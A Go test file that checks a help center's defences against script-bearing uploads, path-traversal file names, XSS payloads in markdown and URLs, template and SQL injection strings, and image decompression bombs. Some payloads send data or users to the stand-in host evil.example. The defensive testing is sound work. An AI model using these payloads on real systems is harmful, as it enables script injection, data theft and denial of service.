package helpcenter_test

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/gif"
	"image/png"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"deskbell/app/apptest"
)

// These are the cases of the security catalogue that concern the help center, by their numbers there.

func polyglot(t *testing.T) []byte {
	t.Helper()
	var b bytes.Buffer
	img := image.NewPaletted(image.Rect(0, 0, 2, 2), color.Palette{color.Black, color.White})
	if err := gif.Encode(&b, img, nil); err != nil {
		t.Fatal(err)
	}
	return append(b.Bytes(), "/*<html><script>alert(1)</script>*/=1;alert(1)"...)
}

// S-54: what is no picture is refused whatever it is called, and what is one is served as that and nothing else.
func TestS54ScriptsAreNeverServedFromOurOrigin(t *testing.T) {
	d := newDesk(t)
	for name, content := range map[string]string{
		"x.svg": `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`, "x.html": "<!doctype html><script>alert(1)</script>", "x.xml": `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`,
		"x.xhtml": `<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`, "x.pdf": "%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>", "x.png": "<script>alert(1)</script>", "x": "<script>alert(1)</script>",
		"x.gif": "GIF89a/*<script>alert(1)</script>*/", "empty.png": "", "head.png": "\x89PNG\r\n\x1a\n",
	} {
		if status, out := d.Named(`form-data; name="file"; filename="`+name+`"`, []byte(content)); status != 422 && status != 413 {
			t.Errorf("%s: %d %v", name, status, out)
		}
	}
	status, a := d.Named(`form-data; name="file"; filename="x.html"`, polyglot(t))
	if status != 200 || a["contentType"] != "image/gif" {
		t.Fatalf("a picture with a script behind it: %d %v", status, a)
	}
	status, head, _ := d.Page(strings.TrimPrefix(a["url"].(string), d.URL), nil)
	if status != 200 || head.Get("Content-Type") != "image/gif" || head.Get("X-Content-Type-Options") != "nosniff" || !strings.HasPrefix(head.Get("Content-Security-Policy"), "sandbox; default-src 'none'") || head.Get("Set-Cookie") != "" {
		t.Errorf("served as %v", head)
	}
}

// S-56: names are data, never paths or headers.
func TestS56DangerousNamesAreOnlyNames(t *testing.T) {
	d := newDesk(t)
	for _, name := range []string{".htaccess", "a.php.", "../../x", `..\\..\\x`, "CON", strings.Repeat("n", 300), "a%0d%0ab", "\u202egnp.exe", `a\";b`, "größe 日本.png", "/etc/passwd", ""} {
		status, a := d.Named(`form-data; name="file"; filename="`+name+`"`, []byte(apptest.Dot(1)))
		got, _ := a["filename"].(string)
		if status != 200 || got == "" || len([]rune(got)) > 120 || strings.ContainsAny(got, "/\\\x00\r\n\u202e") || got == ".." {
			t.Errorf("%q: %d %v", name, status, a)
		}
		if address, _ := a["url"].(string); !regexp.MustCompile(`/help/-/asset/[0-9A-Z]{13}/[\w-]{22}$`).MatchString(address) {
			t.Errorf("%q is at %s", name, address)
		}
	}
	for _, name := range []string{"CON.md", "a.md.", "nul.md", "ä ö.md", "\u202egnp.md", strings.Repeat("n", 400) + ".md"} {
		if status, out := d.Sync(d.Owner, apptest.Zipped(t, map[string]string{name: "# x"}), "&dryRun=true"); status >= 500 {
			t.Errorf("%q in a zip: %d %v", name, status, out)
		}
	}
}

// S-57: what stands in an address never becomes part of a page or of its code.
func TestS57AddressesStayText(t *testing.T) {
	d := newDesk(t)
	d.Wrote("Bulbs", "x", nil)
	for _, q := range []string{"?__proto__[x]=1", "?constructor.prototype.x=1", "?thanks=<script>alert(1)</script>", "?thanks=yes'\"><svg onload=alert(1)>", "search?q=</title><script>alert(1)</script>", "search?q=\"onfocus=alert(1)+autofocus=", "search?part=1&q=<b>bulbs</b>", "x%22%3E%3Cscript%3E", "de/../../x"} {
		path := "/help/shop/a/bulbs" + q
		if !strings.HasPrefix(q, "?") {
			path = "/help/shop/" + q
		}
		u, err := url.Parse(d.URL + "/")
		if err != nil {
			t.Fatal(err)
		}
		u.Path, u.RawQuery, _ = strings.Cut(path, "?")
		u.RawQuery = strings.ReplaceAll(u.RawQuery, " ", "%20")
		status, head, out := d.Page(strings.TrimPrefix(u.String(), d.URL), nil)
		if status >= 500 || strings.Contains(out, "alert(1)<") || regexp.MustCompile(`<svg onload|"onfocus|<b>bulbs|<script>`).MatchString(out) || strings.Contains(head.Get("Content-Security-Policy"), "unsafe") {
			t.Errorf("%s: %d %s", q, status, out)
		}
	}
}

var attacks = []string{
	`<img src=x onerror=alert(1)>`, `[x](javascript:alert(1))`, `[x](JaVaScRiPt:alert(1))`, `[x](&#106;avascript:alert(1))`, `[x](data:text/html;base64,PHNjcmlwdD4=)`, `[x](vbscript:x)`, `<script>alert(1)</script>`, `<!-- --><script>alert(1)</script>`,
	`![x](data:image/svg+xml,<svg onload=alert(1)>)`, `![x](https://evil.example/?q=secret)`, "```\n</code></pre><script>alert(1)</script>\n```", "| <svg/onload=alert(1)> |\n|-|\n| <iframe src=javascript:alert(1)> |", `<<script>script>alert(1)<</script>/script>`,
	`<math><mi xlink:href="data:x,<script>alert(1)</script>">`, `<svg><style><img src=x onerror=alert(1)></style></svg>`, `<base href=//evil.example>`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<form action=//evil.example><input>`, `<template><script>alert(1)</script></template>`,
	`<a href="x" style="position:fixed;inset:0">x</a>`, `> [!NOTE]" onclick="alert(1)`, `## x {onclick=alert(1)}`, `<https://evil.example/"onmouseover=alert(1)>`, `[x](https://evil.example/"onmouseover="alert(1))`, `https://www.youtube.com/watch?v=abcdefg"onload="alert(1)`, `![x](asset:0SAZPVHNMQ3QW"onerror="alert(1))`, `[x]: javascript:alert(1)` + "\n\n[x]",
}

var harmful = regexp.MustCompile(`(?i)<(script|svg|math|style|base|meta|form|input|template|object|embed|link)\b|<[^>]*\son\w+\s*=|(href|src)="?\s*(javascript|vbscript|data):|style=|src="https?://evil`)

// S-52, S-53, S-58, S-59: whoever wrote it, an article runs nothing where it is read: for readers, in feeds, in the
// messenger, in search results, in the team's preview and in what comes in from a folder.
func TestS58ArticlesRunNothing(t *testing.T) {
	d := newDesk(t)
	agent := d.Member("admin")
	all := strings.Join(attacks, "\n\n")
	id := d.OK(agent, "articles.create", m{"title": "Bulbs <script>alert(1)</script>", "content": all, "description": "<img src=x onerror=alert(1)>"})["id"]
	d.OK(d.Owner, "articles.publish", m{"articleId": id})
	read := d.OK("", "helpCenter.getArticle", m{"workspaceId": d.Workspace, "articleId": id})
	body := regexp.MustCompile(`(?s)<main.*</main>`)
	shown := map[string]string{"reader": read["contentHtml"].(string), "team": d.OK(d.Owner, "articles.get", m{"articleId": id})["contentHtml"].(string), "preview": d.OK(d.Owner, "articles.preview", m{"content": all})["html"].(string)}
	shown["previewed document"] = body.FindString(d.OK(d.Owner, "articles.preview", m{"title": "</title><script>alert(1)</script>", "description": "<img src=x onerror=alert(1)>", "content": all})["document"].(string))
	for _, h := range d.OK("", "helpCenter.search", m{"workspaceId": d.Workspace, "q": "bulbs"})["items"].([]any) {
		shown["hit"] += h.(m)["titleMarked"].(string) + h.(m)["excerptMarked"].(string)
	}
	for _, path := range []string{"", "a/" + read["slug"].(string), "search?q=bulbs", "c/none"} {
		_, _, page := d.Page("/help/shop/"+path, nil)
		shown["page "+path] = strings.NewReplacer(`<form class="find"`, "", `<form method="post"`, "", "<input name=", "", `<svg viewBox="0 0 24 24" aria-hidden="true">`, "").Replace(body.FindString(page))
	}
	d.Sync(d.Owner, apptest.Zipped(t, map[string]string{"evil.md": "---\ntitle: \"Evil <script>alert(1)</script>\"\nslug: evil\n---\n" + all}), "")
	shown["folder"] = d.OK("", "helpCenter.getArticle", m{"workspaceId": d.Workspace, "slug": "evil"})["contentHtml"].(string)
	for where, html := range shown {
		if bad := harmful.FindString(html); bad != "" {
			t.Errorf("%s lets %q through:\n%s", where, bad, html)
		}
	}
	for _, path := range []string{"feed.xml", "sitemap.xml", "llms.txt"} {
		if _, head, out := d.Page("/help/shop/"+path, nil); path != "llms.txt" && strings.Contains(out, "<script") || strings.Contains(head.Get("Content-Type"), "html") {
			t.Errorf("%s: %s %s", path, head.Get("Content-Type"), out)
		}
	}
}

// S-60: words are never read as a template.
func TestS60WordsAreNoTemplates(t *testing.T) {
	d := newDesk(t)
	word := `{{.Server}} {{template "top" .}} {{env "HOME"}} {{range .}}{{end}} ${7919*7927} <%= 7919*7927 %>`
	d.OK(d.Owner, "helpCenter.updateSettings", m{"title": word, "tagline": word})
	id := d.Wrote(word, word, m{"description": word, "collectionId": d.shelf(word, nil)})
	slug := d.OK(d.Owner, "articles.get", m{"articleId": id})["slug"].(string)
	for _, path := range []string{"", "a/" + slug, "search?q=" + url.QueryEscape(word)} {
		status, _, out := d.Page("/help/shop/"+path, nil)
		if status != 200 || !strings.Contains(out, "{{.Server}}") || strings.Contains(out, "62773913") {
			t.Errorf("%s: %d %s", path, status, out)
		}
	}
}

// S-74: pictures that would be gigabytes when decoded are known by their heads.
func TestS74PictureBombs(t *testing.T) {
	d := newDesk(t)
	var small bytes.Buffer
	if err := png.Encode(&small, image.NewGray(image.Rect(0, 0, 1, 1))); err != nil {
		t.Fatal(err)
	}
	sized := func(w, h uint32) []byte { // a true PNG whose head says something else
		b := bytes.Clone(small.Bytes())
		binary.BigEndian.PutUint32(b[16:], w)
		binary.BigEndian.PutUint32(b[20:], h)
		binary.BigEndian.PutUint32(b[29:], crc32.ChecksumIEEE(b[12:29]))
		return b
	}
	avif := func(w, h uint32) []byte {
		b := []byte("\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf\x00\x00\x00\x30meta\x00\x00\x00\x00\x00\x00\x00\x10iloc\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x14ispe\x00\x00\x00\x00")
		return binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(b, w), h)
	}
	for name, content := range map[string][]byte{
		"65,500 × 65,500": sized(65500, 65500), "15,000 × 15,000": sized(15000, 15000), "wide": sized(1<<31-1, 1), "tall": sized(1, 40000), "no height": sized(10, 0), "GIF without width": []byte("GIF89a\x00\x00\x10\x00\x00\x00\x00"), "TIFF": []byte("II*\x00\xff\xff\xff\xff"), "BMP": []byte("BM" + strings.Repeat("\xff", 60)),
		"WebP without size": []byte("RIFF\x10\x00\x00\x00WEBPVP8X\x0a\x00\x00\x00"), "AVIF": avif(65500, 65500), "AVIF without size": avif(0, 0), "AVIF, lying": avif(1<<31, 1<<31),
	} {
		var status int
		var out m
		grown, took := peak(func() { status, out = d.Picture(d.Owner, content) })
		if status != 422 && status != 413 {
			t.Errorf("%s: %d %v", name, status, out)
		}
		if grown > 32<<20 {
			t.Errorf("%s took %d MB in %s", name, grown>>20, took)
		}
		if status, out := d.Sync(d.Owner, apptest.Zipped(t, map[string]string{"a.md": "![x](b.png)", "b.png": string(content)}), ""); status != 422 && status != 413 {
			t.Errorf("%s in a zip: %d %v", name, status, out)
		}
	}
	if status, a := d.Picture(d.Owner, avif(64, 48)); status != 200 || a["width"] != 64.0 || a["height"] != 48.0 {
		t.Errorf("a sound AVIF: %d %v", status, a)
	}
	if status, a := d.Picture(d.Owner, sized(7000, 5000)); status != 200 || a["width"] != 7000.0 {
		t.Errorf("35 megapixels: %d %v", status, a)
	}
}

// S-75: whatever somebody looks for, lists by or pages with, it is data: an answer or a refusal, never a failure, and soon.
func TestS75SearchesAreData(t *testing.T) {
	d := newDesk(t)
	d.Wrote("Bulbs", "NEAR the lamp, AND OR NOT the title", nil)
	long := make([]string, 10000)
	for i := range long {
		long[i] = fmt.Sprint("w", i)
	}
	queries := []string{`"`, `""`, `'`, "NEAR(", "NEAR(a b, 2)", "*", "a*", "-a", "+a", "^a", "title:x", "{title body} : x", "a AND", "OR", "NOT a", `"a" OR "b`, "a) OR (b", ";DROP TABLE articles;--", "%", "_", "\\", "\x00", "\xff", "🎉", "\u202e", "a\nb", "ﷺ", strings.Repeat("a", 400), strings.Join(long, " ")[:400], "scope : ws1", "lang:en"}
	for _, q := range queries {
		for door, in := range map[string]m{"helpCenter.search": {"workspaceId": d.Workspace}, "articles.search": {}, "articles.list": {}} {
			in["q"] = q
			token := d.Owner
			if door == "helpCenter.search" {
				token = ""
			}
			if status, out := d.Call(token, door, in); status >= 500 {
				t.Errorf("%s for %q: %d %v", door, q, status, out)
			}
		}
		if status, _, _ := d.Page("/help/shop/search?q="+url.QueryEscape(q), nil); status >= 500 {
			t.Errorf("page for %q: %d", q, status)
		}
	}
	for _, in := range []m{{"q": strings.Repeat("x", 64<<10)}, {"limit": 101}, {"limit": -1}, {"cursor": "' OR 1=1"}, {"cursor": strings.Repeat("A", 100)}, {"status": "x' OR '1'='1"}, {"collectionId": "1 OR 1=1"}, {"tag": strings.Repeat("t", 161)}, {"sort": "updated_at; DROP TABLE articles"}, {"language": "en' --"}} {
		if status, out := d.Call(d.Owner, "articles.list", in); status != 422 && (status != 200 || len(out["items"].([]any)) > 1) {
			t.Errorf("articles.list with %v: %d %v", in, status, out)
		}
	}
	if got := apptest.Titles(d.OK("", "helpCenter.search", m{"workspaceId": d.Workspace, "q": "near lamp"})); len(got) != 1 {
		t.Errorf("words that are operators elsewhere found %v", got)
	}
}

// S-76: Markdown that is broken in any way is brought in as what it says, or refused with the file's name; never a crash,
// never half of it.
func TestS76BrokenMarkdownIsNamed(t *testing.T) {
	d := newDesk(t)
	for name, text := range map[string]string{
		"an unclosed head": "---\ntitle: x\n", "NUL": "# a\x00b\n\ntext\x00", "BOM": "\xef\xbb\xbf---\ntitle: With a mark\n---\nx", "Latin-1": "# Gr\xf6\xdfe\n\nx", "CR": "# a\r\rb", "only a head": "---\ntitle: x\n---", "nothing": "", "quotes": "---\ntitle: \"un\nslug: '\n---\nx",
		"deep": strings.Repeat(">", 5000) + " x", "brackets": strings.Repeat("[", 20000), "stars": strings.Repeat("*a_ ", 20000), "table": "|" + strings.Repeat("a|", 5000) + "\n|" + strings.Repeat("-|", 5000), "a long line": "# " + strings.Repeat("x", 100000),
		"a long title": "---\ntitle: " + strings.Repeat("x", 1000) + "\n---\ny", "tags without end": "---\ntags: [" + strings.Repeat("a,", 5000) + "]\n---\ny", "a long tag": "---\ntags: [" + strings.Repeat("t", 50) + "]\n---\ny", "many lists": strings.Repeat("- ", 3000) + "x",
	} {
		status, out := d.Sync(d.Owner, apptest.Zipped(t, map[string]string{"good.md": "# Good", "odd.md": text}), "&dryRun=true")
		if status != 200 && (status != 422 || !strings.Contains(fmt.Sprint(out["detail"]), "odd.md")) {
			t.Errorf("%s: %d %v", name, status, out)
		}
	}
	if status, _ := d.Sync(d.Owner, apptest.Zipped(t, map[string]string{"a.md": "# Good", "odd.md": "---\ntitle: " + strings.Repeat("x", 1000) + "\n---\ny"}), ""); status != 422 {
		t.Errorf("a title that is too long: %d", status)
	}
	if list := apptest.Titles(d.OK(d.Owner, "articles.list", m{})); len(list) != 0 {
		t.Errorf("half of it came in: %v", list)
	}
}
